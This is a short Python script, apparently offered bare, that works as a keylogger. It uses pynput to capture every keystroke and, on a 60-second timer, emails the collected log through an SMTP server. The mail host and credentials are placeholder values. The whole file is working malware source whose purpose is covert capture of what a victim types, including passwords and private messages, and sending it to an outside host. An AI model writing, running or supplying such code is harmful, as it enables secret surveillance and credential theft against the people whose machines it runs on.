import smtplib
from threading import Timer
from pynput.keyboard import Listener

log = []

def press(key):
    log.append(str(key))

def report():
    server = smtplib.SMTP("smtp.example.invalid", 587)
    server.starttls()
    server.login("me@example.invalid", "pw")
    server.sendmail("me@example.invalid", "me@example.invalid", "".join(log))
    server.quit()
    log.clear()
    Timer(60, report).start()

report()
Listener(on_press=press).start()
